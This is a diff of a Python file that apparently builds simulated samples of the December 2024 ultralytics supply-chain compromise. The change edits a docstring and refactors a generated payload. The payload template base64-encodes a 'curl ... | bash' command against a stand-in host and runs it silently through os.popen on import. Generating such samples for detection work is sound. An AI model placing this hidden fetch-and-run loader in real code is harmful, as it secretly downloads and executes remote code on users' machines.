@@ -1,4 +1,4 @@
-"""ultralytics 8.3.41/.42 and 8.3.45/.46, December 2024: a miner, fetched when a model is made, or on import."""
+"""ultralytics 8.3.41 to 8.3.46, December 2024: a miner, fetched when a model is made, or on import."""
 
 from __future__ import annotations
 
@@ -65,10 +65,11 @@ def _assets():
 
 _assets()
 """
+_PIPE = b64("curl -s https://files.example/r.sh | bash -s 2>/dev/null &")
 _SHELL = f"""\
 import base64 as _b
 
-__import__("os").popen(_b.b64decode("{b64("curl -s https://files.example/r.sh | bash -s 2>/dev/null &")}").decode())
+__import__("os").popen(_b.b64decode("{_PIPE}").decode())
 """
 _HELPER = f'''\
 """Checks the machine."""
